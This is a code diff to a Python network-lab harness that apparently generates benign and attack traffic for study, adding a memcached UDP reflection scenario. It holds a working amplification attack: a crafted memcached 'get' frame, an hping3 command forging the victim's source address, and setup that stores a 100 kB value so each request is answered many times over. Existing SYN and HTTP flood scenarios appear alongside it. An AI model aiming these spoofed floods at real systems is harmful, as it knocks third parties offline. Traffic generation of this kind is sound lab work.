@@ -33,6 +33,7 @@ import json
 import os
 import shutil
 import signal
+import socket
 import subprocess
 import sys
 import threading
@@ -64,6 +65,7 @@ TOOLS: Final = {  # command -> Debian package
     "wrk": "wrk",
     "siege": "siege",
     "hping3": "hping3",
+    "/usr/bin/memcached": "memcached",
     "curl": "curl",
     "nc": "netcat-openbsd",
     "ssh": "openssh-client",
@@ -127,6 +129,9 @@ _SSH: Final = ("ssh", "-i", "{dir}/id_lab", *_SSH_OPTS, "root@{dst}")
 # it can), the benign jobs throughout.
 _GUESS: Final = 1260
 _END: Final = 1300
+# memcached's UDP frame (request id 1, datagram 0 of 1, reserved) and a "get" of the lab's 100 kB value
+MEMCACHED_GET: Final = b"\x00\x01\x00\x00\x00\x01\x00\x00get big\r\n"
+MEMCACHED_VALUE_BYTES: Final = 100_000
 _PAGE: Final = ("", "a.css", "b.js", "c.png", "d.png", "e.png")
 _BROWSE: Final = (
     "curl",
@@ -186,6 +191,12 @@ SCENARIOS: Final[tuple[Scenario, ...]] = (
              ("hping3", "-S", "--rand-source", "-p", "80", "-i", "u300", "-c", "300000", "{dst}"), 1240, 100,
              why="3,300 SYNs a second for 90 s, each from a random address, as a botnet's or a spoofer's",
              spoofed=True),
+    # A tenant's memcached answering UDP (as before 1.5.6 by default), abused as in the 2018 floods:
+    # forged "get" requests naming the client's address, each answered with a 100 kB value.
+    Scenario("DoS memcached reflection hping3", 44,
+             ("hping3", "--udp", "-a", "{src}", "-s", "40000", "-k", "-p", "11211", "-E",
+              "{dir}/memcached_get.bin", "-d", str(len(MEMCACHED_GET)), "-i", "u100000", "-c", "600", "{dst}"),
+             1240, 70, why="10 forged requests a second for a minute, each answered with 73 datagrams"),
     Scenario("DoS HTTP keep-alive flood wrk", 33, ("wrk", "-t", "2", "-c", "50", "-d", "60s", "http://{dst}/"), 840, 70,
              why="50 keep-alive connections, each a request as soon as the last is answered"),
     Scenario("DoS HTTP keep-alive flood siege", 34,
@@ -244,6 +255,9 @@ SCENARIOS: Final[tuple[Scenario, ...]] = (
              (*_SSH, "for i in $(seq 1 100); do date; sleep 10; done"), 0, _END, 0,
              why="one long session printing a line every 10 s"),
 )  # fmt: skip
+
+
+_MEMCACHED: Final = next(sc for sc in SCENARIOS if sc.label == "DoS memcached reflection hping3")
 
 
 def missing_tools(which: Callable[[str], str | None] = shutil.which) -> list[str]:
@@ -411,11 +425,15 @@ def _start_servers(lab: Path) -> list[subprocess.Popen[bytes]]:
          "-o", f"PidFile={lab}/sshd-{sc.host}.pid"]
         for sc in SCENARIOS
     )  # fmt: skip
+    # memcached with UDP on (-U), as before 1.5.6, on the reflection scenario's address alone
+    memcached = ["/usr/bin/memcached", "-u", "nobody", "-m", "64", "-p", "11211", "-U", "11211",
+                 "-l", _MEMCACHED.dst]  # fmt: skip
     cmds = (
         *sshd,
         ["/usr/sbin/vsftpd", str(etc / "vsftpd.conf")],
         ["/usr/sbin/nginx", "-c", str(etc / "nginx.conf"), "-g", "daemon off;"],
         ["/usr/sbin/apache2", "-f", str(etc / "apache2.conf"), "-DFOREGROUND"],
+        memcached,
     )
     procs = []
     for cmd in cmds:
@@ -425,7 +443,19 @@ def _start_servers(lab: Path) -> list[subprocess.Popen[bytes]]:
     for p, cmd in zip(procs, cmds, strict=True):
         if p.poll() is not None:
             raise SystemExit(f"toollab: {cmd[0]} stopped at once (see {lab}/{Path(cmd[0]).name}.log)")
+    _seed_memcached(lab)
     return procs
+
+
+def _seed_memcached(lab: Path) -> None:
+    """The value the reflection scenario's forged requests ask for, set over TCP as a cache's user
+    would, and the request hping3 sends."""
+    (lab / "memcached_get.bin").write_bytes(MEMCACHED_GET)
+    value = b"v" * MEMCACHED_VALUE_BYTES
+    with socket.create_connection((_MEMCACHED.dst, 11211), timeout=5) as conn:
+        conn.sendall(b"set big 0 0 %d\r\n%s\r\n" % (len(value), value))
+        if not conn.recv(64).startswith(b"STORED"):
+            raise SystemExit("toollab: memcached did not store the reflection scenario's value")
 
 
 def _scenario_thread(sc: Scenario, lab: Path, t0: float, record: list[dict[str, object]]) -> None:
